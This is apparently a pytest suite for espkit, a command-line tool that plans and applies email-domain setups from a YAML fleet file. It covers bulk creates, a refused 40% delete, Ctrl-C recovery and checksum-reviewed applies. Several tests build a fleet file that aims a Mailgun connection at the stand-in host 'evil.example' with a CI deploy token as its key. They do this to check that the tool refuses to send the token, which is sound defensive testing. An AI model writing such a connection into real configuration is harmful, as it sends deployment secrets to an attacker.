"""`espkit plan` / `espkit apply` on a YAML fleet file against a sandbox file, as a platform
team runs them: 500 customers x 2 streams, re-plan to zero, the 40 % delete refusal."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import responses
from support.clitext import flat, write
from support.hang import HANG

import espkit


def fleet_yaml(customers: range, *, sub_every: int = 0) -> str:
    lines = [
        "version: 1",
        "connections:",
        "  sandbox: {provider: sandbox}",
        'ownership: {domains: ["*.example.com"]}',
        "pools:",
        "  mkt: {ips: [198.51.100.1, 198.51.100.2]}",
        "  txn: {ips: [198.51.100.3]}",
        "streams:",
        '  marketing: {pool: mkt, domain: "news.{domain}"}',
        '  transactional: {pool: txn, domain: "mail.{domain}"}',
        "templates:",
        '  own-subaccount: {streams: [marketing, transactional], subaccount: "{customer}"}',
        "customers:",
    ]
    for n in customers:
        extra = ", template: own-subaccount" if sub_every and n % sub_every == 0 else ""
        lines.append(f"  - {{name: cust{n}, domain: cust{n}.example.com{extra}}}")
    return "\n".join(lines) + "\n"


def domains_on(sandbox_db: str) -> set[str]:
    with espkit.connect("sandbox", path=sandbox_db) as acct:
        names = {d.name for d in acct.domains.list()}
        for sub in acct.subaccounts.list():
            names |= {d.name for d in acct.on_behalf_of(sub).domains.list()}
    return names


def test_500_customers_plan_apply_replan_to_zero_then_refuse_a_40_percent_delete(
        run, tmp_path: Path, sandbox_db: str) -> None:
    fleet = write(tmp_path, fleet_yaml(range(500), sub_every=100))

    planned = run("-o", "json", "plan", fleet)
    assert planned.exit_code == 0, planned.output
    data = json.loads(planned.stdout)
    assert data["counts"]["create"] == 2 + 5 + 1000
    assert domains_on(sandbox_db) == set()  # planning changed nothing

    applied = run("apply", fleet, "--yes", "--no-progress")
    assert applied.exit_code == 0, applied.output
    assert "1007 created" in flat(applied.stdout)
    assert len(domains_on(sandbox_db)) == 1000

    again = run("plan", fleet)
    assert again.exit_code == 0
    assert "no changes; the accounts match the fleet" in flat(again.stdout)
    noop = run("apply", fleet, "--yes")
    assert noop.exit_code == 0
    assert "no changes" in flat(noop.stdout)

    shrunk = write(tmp_path, fleet_yaml(range(300), sub_every=100), "shrunk.yaml")
    warned = run("plan", shrunk)
    assert warned.exit_code == 0
    assert "400 to delete" in flat(warned.stdout)
    assert "unsafe" in flat(warned.stderr)
    refused = run("apply", shrunk, "--yes")
    assert refused.exit_code == 2
    assert "refused: too much change" in flat(refused.stderr)
    assert "400 of the 1000 existing domains (40%)" in flat(refused.stderr)
    assert len(domains_on(sandbox_db)) == 1000  # nothing was deleted

    forced = run("apply", shrunk, "--yes", "--force", "--no-progress")
    assert forced.exit_code == 0, forced.output
    assert "400 deleted" in flat(forced.stdout)
    assert len(domains_on(sandbox_db)) == 600


def test_plan_table_shows_each_change_with_its_reason(run, tmp_path: Path) -> None:
    result = run("plan", write(tmp_path, fleet_yaml(range(2), sub_every=2)), columns=200)
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert "news.cust1.example.com" in out
    assert "customer cust1, stream" in out
    assert "subaccount" in out
    assert "pool:mkt" in out
    assert "7 to create" in flat(out)


def test_apply_json_report(run, tmp_path: Path) -> None:
    result = run("-o", "json", "apply", write(tmp_path, fleet_yaml(range(3))), "--yes")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["ok"] is True
    assert report["counts"] == {"created": 8}
    assert report["domains"]["sandbox"]["counts"]["created"] == 6


def test_apply_needs_yes_when_not_interactive(run, tmp_path: Path, sandbox_db: str) -> None:
    result = run("apply", write(tmp_path, fleet_yaml(range(1))))
    assert result.exit_code == 2
    assert "--yes" in flat(result.stderr)
    assert domains_on(sandbox_db) == set()


def test_unknown_domains_are_reported_and_deleted_only_when_asked(
        run, tmp_path: Path, sandbox_db: str) -> None:
    with espkit.connect("sandbox", path=sandbox_db) as acct:
        acct.domains.create("legacy.other.org")
    fleet = write(tmp_path, fleet_yaml(range(1)))
    assert run("apply", fleet, "--yes").exit_code == 0
    result = run("plan", fleet)
    assert "unknown, left alone" in flat(result.stderr)
    assert "legacy.other.org" in flat(result.stderr)
    assert "legacy.other.org" in domains_on(sandbox_db)
    pruned = run("apply", fleet, "--yes", "--delete-unknown")
    assert pruned.exit_code == 0, pruned.output
    assert "legacy.other.org" not in domains_on(sandbox_db)


def test_a_bad_fleet_file_exits_2_with_line_numbers(run, tmp_path: Path) -> None:
    text = fleet_yaml(range(2)).replace("pool: txn,", "pool: tx,")
    result = run("plan", write(tmp_path, text))
    assert result.exit_code == 2
    assert "line 10" in flat(result.stderr)
    assert "'tx'" in flat(result.stderr)


#: the apply in a child process, with its domain creates past the first ``GATE_AFTER`` held
#: (at most ``HANG`` seconds) until the file ``GATE`` exists: the Ctrl-C comes while the apply
#: is under way however busy the machine is, and the creates in flight then land
GATED_APPLY = """
import os, signal, sys, threading, time
from espkit.cli import main

# Ctrl-C as a terminal delivers it: a shell without job control starts background commands
# (a CI script's, a nohup'd run) with SIGINT ignored, and Python then keeps it ignored
signal.signal(signal.SIGINT, signal.default_int_handler)
from espkit.sandbox.adapter import SandboxAdapter

gate, after, hang = os.environ["GATE"], int(os.environ["GATE_AFTER"]), float(os.environ["HANG"])
lock = threading.Lock()
creates = [0]
send = SandboxAdapter.send

def held(self, request, *args, **kwargs):
    if request.method == "POST" and request.path_url == "/v1/domains":
        with lock:
            creates[0] += 1
            later = creates[0] > after
        give_up = time.monotonic() + hang
        while later and not os.path.exists(gate) and time.monotonic() < give_up:
            time.sleep(0.01)
    return send(self, request, *args, **kwargs)

SandboxAdapter.send = held
sys.argv[0] = "espkit"
main()
"""


def test_ctrl_c_mid_apply_then_the_same_apply_finishes(tmp_path: Path, sandbox_db: str) -> None:
    """A real process, a real SIGINT: the apply stops cleanly, says how to finish, and the
    same command again converges with no domain created twice."""
    import os
    import signal
    import subprocess
    import sys
    import time

    text = fleet_yaml(range(150)).replace(
        "sandbox: {provider: sandbox}",
        f'sandbox: {{provider: sandbox, path: "{sandbox_db}", rate_limit: 40}}')
    fleet = write(tmp_path, text)
    cmd = [sys.executable, "-c", GATED_APPLY, "apply", fleet, "--yes", "--no-progress"]
    gate = tmp_path / "gate"
    # the held creates wait for the gate longer than this test waits for the first 40: on a
    # loaded machine a poll of the sandbox can take long, and creates let go by their own
    # time-out would finish the apply before the Ctrl-C
    env = {**os.environ, "PYTHONUNBUFFERED": "1", "GATE": str(gate), "GATE_AFTER": "40",
           "HANG": str(4 * HANG)}
    env.pop("ESPKIT_PROVIDER", None)
    # stdout to a file: the plan table is bigger than a pipe's buffer, and nobody reads
    # the pipe until the process ends
    proc = subprocess.Popen(cmd, stdout=(tmp_path / "out.txt").open("w"),
                            stderr=subprocess.PIPE, text=True, env=env)
    give_up = time.monotonic() + HANG  # a bound on a hang: 40 creates at 40/s take 1 s
    while len(domains_on(sandbox_db)) < 40:
        if proc.poll() is not None or time.monotonic() > give_up:
            proc.kill()
            pytest.fail(f"the apply did not get to 40 domains (rc {proc.wait()}): "
                        f"{proc.communicate()[1]}")
        time.sleep(0.05)
    assert proc.poll() is None, "the apply ended before the Ctrl-C could reach it"
    proc.send_signal(signal.SIGINT)
    gate.touch()  # the creates held at the gate, in flight when the Ctrl-C came, land
    _, stderr = proc.communicate(timeout=HANG)
    assert proc.returncode == 130, stderr
    assert "run the same apply again to finish" in flat(stderr)
    landed = len(domains_on(sandbox_db))
    assert 40 <= landed < 300

    again = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=4 * HANG)
    assert again.returncode == 0, again.stderr
    assert len(domains_on(sandbox_db)) == 300
    with espkit.connect("sandbox", path=sandbox_db) as acct:
        assert plan_is_empty(fleet, acct)


def plan_is_empty(path: str, acct: espkit.Account) -> bool:
    from espkit import fleet as fleet_file
    from espkit.fleet import plan

    return plan(fleet_file.load(path), {"sandbox": acct}).empty


def test_apply_checksum_applies_only_the_reviewed_plan(
        run, tmp_path: Path, sandbox_db: str) -> None:
    fleet = write(tmp_path, fleet_yaml(range(3)))
    reviewed = json.loads(run("-o", "json", "plan", fleet).stdout)["checksum"]
    assert f"Checksum {reviewed}." in flat(run("plan", fleet).stdout)

    # the account changed after the review: the plan is different, so apply refuses
    with espkit.connect("sandbox", path=sandbox_db) as acct:
        acct.domains.create("news.cust0.example.com")
    refused = run("apply", fleet, "--yes", "--checksum", reviewed)
    assert refused.exit_code == 2
    assert "the plan changed since it was reviewed" in flat(refused.stderr)
    assert domains_on(sandbox_db) == {"news.cust0.example.com"}

    current = json.loads(run("-o", "json", "plan", fleet).stdout)["checksum"]
    assert current != reviewed
    applied = run("apply", fleet, "--yes", "--checksum", current)
    assert applied.exit_code == 0, applied.output
    assert len(domains_on(sandbox_db)) == 6


def test_plan_exit_code_detects_drift(run, tmp_path: Path, sandbox_db: str) -> None:
    fleet = write(tmp_path, fleet_yaml(range(2)))
    assert run("plan", fleet).exit_code == 0  # without the flag, changes are not a failure
    assert run("plan", fleet, "--exit-code").exit_code == 3
    assert run("apply", fleet, "--yes").exit_code == 0
    assert run("plan", fleet, "--exit-code").exit_code == 0
    # someone moves a domain to another pool by hand: the nightly check notices
    with espkit.connect("sandbox", path=sandbox_db) as acct:
        acct.domains.assign("news.cust1.example.com", pool="txn")
    drift = run("plan", fleet, "--exit-code")
    assert drift.exit_code == 3
    assert "news.cust1.example.com" in drift.stdout


# -- where a fleet file's keys may go (espkit.fleet.trust) -------------------------------------

TRUST_SECRET = "key-cli-trust-0123456789SECRET"


def one_connection(conn: str) -> str:
    """A fleet of one customer whose only connection is ``conn`` (flow YAML)."""
    return fleet_yaml(range(1)).replace("sandbox: {provider: sandbox}", f"sandbox: {conn}")


@pytest.fixture
def no_opt_ins(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("ESPKIT_ALLOW_HOSTS", "ESPKIT_ALLOW_ENV", "ESPKIT_ALLOW_KEYRING_SERVICES",
                 "ESPKIT_ALLOW_PATHS"):
        monkeypatch.delenv(name, raising=False)


@responses.activate(assert_all_requests_are_fired=False)
def test_plan_refuses_to_send_a_key_to_a_host_the_file_names(
        run, tmp_path: Path, no_opt_ins: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """The issue's attack: a pull request points a connection at its own host with a CI
    secret as the key. plan exits 2 naming the host and the opt-in, sends nothing, shows no
    secret; with --allow-host (and --allow-env) the same file does reach that host."""
    monkeypatch.setenv("CI_DEPLOY_TOKEN", TRUST_SECRET)
    hits: list[str] = []

    def unauthorised(request: Any) -> tuple[int, dict[str, str], str]:
        hits.append(request.url)
        return 401, {"Content-Type": "application/json"}, '{"message": "Invalid private key"}'

    for host in ("https://evil.example", "https://api.mailgun.net", "https://api.eu.mailgun.net"):
        responses.add_callback(responses.GET, re.compile(re.escape(host) + r"/.*"), unauthorised)
    fleet = write(tmp_path, one_connection(
        "{provider: mailgun, base_url: 'https://evil.example', credentials: env/CI_DEPLOY_TOKEN}"))

    for command in (["plan", fleet], ["apply", fleet, "--yes"], ["-o", "json", "plan", fleet]):
        result = run(*command)
        assert result.exit_code == 2, result.output
        err = flat(result.stderr)
        assert "line 3: connections.sandbox.base_url: refused:" in err
        assert "'evil.example' is not mailgun's own API host" in err
        assert "--allow-host evil.example" in err
        assert "connections.sandbox.credentials: refused: env/CI_DEPLOY_TOKEN" in err
        assert TRUST_SECRET not in result.output
        assert len(responses.calls) == 0
        assert hits == []

    only_host = run("plan", fleet, "--allow-host", "evil.example")
    assert only_host.exit_code == 2
    assert "--allow-env CI_DEPLOY_TOKEN" in flat(only_host.stderr)
    assert hits == []
    allowed = run("plan", fleet, "--allow-host", "evil.example", "--allow-env", "CI_DEPLOY_TOKEN")
    assert allowed.exit_code == 1, allowed.output  # the ESP's 401: an ESP error, not ours
    assert hits
    assert all(u.startswith("https://evil.example/") for u in hits)
    assert TRUST_SECRET not in allowed.output


def test_plan_and_apply_take_a_sandbox_path_outside_the_fleet_only_when_allowed(
        run, tmp_path: Path, no_opt_ins: None) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    outside = tmp_path / "elsewhere" / "state.db"
    outside.parent.mkdir()
    fleet = write(repo, one_connection("{provider: sandbox, path: ../elsewhere/state.db}"))
    refused = run("plan", fleet)
    assert refused.exit_code == 2
    assert f"the sandbox file {str(outside)!r} is outside the fleet file's directory" in \
        flat(refused.stderr)
    assert f"--allow-path {outside}" in flat(refused.stderr)
    assert not outside.exists()  # nothing was opened, so nothing created

    assert run("plan", fleet, "--allow-path", str(outside.parent)).exit_code == 0
    applied = run("apply", fleet, "--yes", "--allow-path", str(outside))
    assert applied.exit_code == 0, applied.output
    assert domains_on(str(outside)) == {"news.cust0.example.com", "mail.cust0.example.com"}


def test_plan_reads_another_variable_only_when_allowed_by_option_or_environment(
        run, tmp_path: Path, no_opt_ins: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CI_DEPLOY_TOKEN", TRUST_SECRET)
    fleet = write(tmp_path, one_connection(
        "{provider: sandbox, path: s.db, credentials: env/CI_DEPLOY_TOKEN}"))
    refused = run("plan", fleet)
    assert refused.exit_code == 2
    assert "$CI_DEPLOY_TOKEN is not a sandbox key variable" in flat(refused.stderr)
    assert TRUST_SECRET not in refused.output
    assert run("plan", fleet, "--allow-env", "CI_DEPLOY_TOKEN").exit_code == 0
    monkeypatch.setenv("ESPKIT_ALLOW_ENV", "CI_DEPLOY_TOKEN")
    assert run("plan", fleet).exit_code == 0


def test_plan_reads_another_keyring_service_only_when_allowed(
        run, tmp_path: Path, no_opt_ins: None) -> None:
    import keyring
    from keyring.backends.fail import Keyring as NoKeyring

    class OneEntry(NoKeyring):
        priority = 1  # type: ignore[assignment]
        reads = 0

        def get_password(self, service: str, username: str) -> str | None:
            OneEntry.reads += 1
            return TRUST_SECRET if (service, username) == ("ci", "deploy") else None

    previous = keyring.get_keyring()
    keyring.set_keyring(OneEntry())
    try:
        fleet = write(tmp_path, one_connection(
            "{provider: sandbox, path: s.db, credentials: keyring/ci/deploy}"))
        refused = run("plan", fleet)
        assert refused.exit_code == 2
        assert "--allow-keyring-service ci" in flat(refused.stderr)
        assert OneEntry.reads == 0
        assert run("plan", fleet, "--allow-keyring-service", "ci").exit_code == 0
        assert OneEntry.reads == 1
    finally:
        keyring.set_keyring(previous)


def test_a_malformed_allow_host_exits_2_naming_it(run, tmp_path: Path, no_opt_ins: None,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    fleet = write(tmp_path, fleet_yaml(range(1)))
    result = run("plan", fleet, "--allow-host", "user@evil.example")
    assert result.exit_code == 2
    assert "'user@evil.example' is not a host" in flat(result.stderr)
    monkeypatch.setenv("ESPKIT_ALLOW_HOSTS", "https://evil.example/path")
    result = run("plan", fleet)
    assert result.exit_code == 2
    assert "$ESPKIT_ALLOW_HOSTS: 'https://evil.example/path' is not a host" in \
        flat(result.stderr)
